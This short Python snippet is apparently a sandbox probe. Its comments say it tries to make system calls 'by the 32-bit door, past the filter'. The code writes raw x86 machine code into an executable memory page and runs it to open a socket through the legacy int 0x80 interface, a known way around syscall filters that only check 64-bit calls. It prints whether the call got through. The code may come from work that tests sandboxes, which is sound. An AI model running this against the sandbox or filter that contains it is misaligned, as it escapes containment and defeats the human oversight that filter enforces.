# tries: make system calls by the 32-bit door, past the filter
# ends: crashed/ok/error

if platform.machine() == "x86_64":
    import mmap
    code = bytes.fromhex("b866010000" "bb02000000" "b901000000" "ba00000000" "cd80" "c3")  # socket(2, 1, 0)
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    result = call()
    print("REACHED" if result >= 0 else "refused", result)
